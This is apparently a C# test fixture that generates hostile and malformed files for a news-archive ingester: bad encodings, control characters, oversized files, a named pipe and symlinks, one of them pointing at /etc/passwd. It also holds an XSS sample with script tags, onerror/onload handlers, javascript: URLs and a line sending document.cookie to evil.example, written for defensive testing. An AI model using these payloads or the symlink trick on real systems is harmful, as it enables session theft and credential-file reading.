using System.Diagnostics;
using System.Text;

namespace NewsArchive.Tests.Reliability;

/// <summary>
/// Files no corpus should hold and some will, generated into a test's corpus (never committed). Each one is either
/// ingested, keeping a text it must keep (<see cref="Ingested"/>), or skipped with a reason (<see cref="Skipped"/>).
/// </summary>
public static class HostileFiles
{
    /// <summary>Markup and script in headline and body, raw and as entities: to be shown as text, never run.</summary>
    public const string Script = "html/script.txt";

    /// <summary>A "javascript:" source URL: to be dropped, never linked.</summary>
    public const string JavascriptUrl = "html/javascript-url.txt";

    private const string Zurich = "Zürich café owners protest rent rises\n\nOwners of cafés in Zürich’s old town closed their doors on Monday.";

    public const string UnusualName = "name with spaces/Café – résumé 日本語 ñ.txt";

    /// <summary>Relative path → text the stored article (title, summary or body) must contain.</summary>
    public static IReadOnlyDictionary<string, string> Ingested { get; } = new Dictionary<string, string>
    {
        ["single-line-2mb.txt"] = "Line one of a very long single line",
        ["invalid-utf8.txt"] = "Café owners protest rent rises",
        ["utf16-le-bom.txt"] = "Zürich café owners protest rent rises",
        ["utf16-be-bom.txt"] = "Zürich café owners protest rent rises",
        ["control-characters.txt"] = "Storm warning for the coast",
        ["right-to-left.txt"] = "تظاهرات في طهران ضد الغلاء",
        ["emoji.txt"] = "🚀 Launch day for the 🇮🇳 moon mission 👩‍🚀",
        [UnusualName] = "Festival opens in Kyoto",
        ["folder.txt/inside.txt"] = "Bridge closes for repairs",
        [Script] = "The council voted on Monday",
        [JavascriptUrl] = "Dock workers returned to work",
    };

    /// <summary>Relative path → words the skip reason must contain.</summary>
    public static IReadOnlyDictionary<string, string> Skipped { get; } = new Dictionary<string, string>
    {
        ["empty.txt"] = "empty file",
        ["whitespace-only.txt"] = "whitespace only",
        ["binary.txt"] = "binary",
        ["huge-50mb.txt"] = "larger than the 5 MB limit",
        ["named-pipe.txt"] = "not a regular file",
        ["links/loop"] = "symbolic link",
        ["links/passwd.txt"] = "symbolic link",
    };

    public static void WriteInto(TempArchive archive)
    {
        archive.Write("empty.txt", "");
        archive.Write("whitespace-only.txt", " \t\r\n  \u00A0\u2003\n\n\t");
        archive.Write("binary.txt", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52, 0x00, 0xFF]);
        using (var huge = File.Create(Path.Combine(archive.Corpus, "huge-50mb.txt")))
        {
            while (huge.Length < 50 * 1024 * 1024)
            {
                huge.Write("Markets rallied again on Monday as traders bought shares.\n"u8);
            }
        }

        archive.Write("single-line-2mb.txt", string.Concat(Enumerable.Repeat("Line one of a very long single line keeps going without a break. ", 2 * 1024 * 1024 / 66)));
        // Latin-1 é (0xE9) and bytes that are never UTF-8 (0xFF, 0xC3 0x28): read as Windows-1252.
        archive.Write("invalid-utf8.txt", [.. Encoding.Latin1.GetBytes("Caf\u00e9 owners protest rent rises\n\nThe owners of the old town's caf\u00e9s met on Monday "), 0xFF, 0xC3, 0x28, .. "to plan a strike."u8]);
        archive.Write("utf16-le-bom.txt", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Zurich)]);
        archive.Write("utf16-be-bom.txt", [.. Encoding.BigEndianUnicode.GetPreamble(), .. Encoding.BigEndianUnicode.GetBytes(Zurich)]);
        archive.Write("control-characters.txt", "Storm\u0007 warning for the coast\u001B[0m\n\n\u0001Forecasters\u0008 expect\u000B winds\u000C of\u007F 120 km/h\u0085 on Tuesday.\u001F");
        archive.Write("right-to-left.txt", "تظاهرات في طهران ضد الغلاء\n\nتجمع مئات المحتجين يوم الاثنين \u202Eفي وسط المدينة\u202C. שלום and English mixed: 2024.");
        archive.Write("emoji.txt", "🚀 Launch day for the 🇮🇳 moon mission 👩‍🚀\n\nThe rocket lifted off at dawn 🌅 with three crew 👨‍👩‍👧 aboard.");
        archive.Write(UnusualName, "Festival opens in Kyoto\n\nThe autumn festival opened on Saturday with a parade.");
        archive.Write("folder.txt/inside.txt", "Bridge closes for repairs\n\nThe old bridge closed on Sunday for two months of repairs.");
        archive.Write(Script, """
            Council votes on <script>alert('headline')</script> harbour plan

            <script>document.location='https://evil.example/?c='+document.cookie</script>
            The council voted on Monday to approve the harbour plan. <a href="javascript:alert('link')">Read more</a> <img src=x onerror="alert('img')">

            Residents can comment until Friday &lt;script&gt;alert('entity')&lt;/script&gt; <iframe src="javascript:alert('frame')"></iframe> <svg onload=alert('svg')>
            """);
        archive.Write(JavascriptUrl, "Port strike ends after two weeks\nURL: javascript:alert(document.cookie)\n\nDock workers returned to work on Tuesday after a two-week strike over pay.");

        MakeNamedPipe(Path.Combine(archive.Corpus, "named-pipe.txt"));
        Directory.CreateDirectory(Path.Combine(archive.Corpus, "links"));
        Directory.CreateSymbolicLink(Path.Combine(archive.Corpus, "links", "loop"), archive.Corpus);
        File.CreateSymbolicLink(Path.Combine(archive.Corpus, "links", "passwd.txt"), "/etc/passwd");
    }

    /// <summary>A FIFO: listed like a file, but opening it for reading waits for a writer that never comes.</summary>
    private static void MakeNamedPipe(string path)
    {
        using var mkfifo = Process.Start("mkfifo", [path]);
        mkfifo.WaitForExit();
        Assert.Equal(0, mkfifo.ExitCode);
    }
}
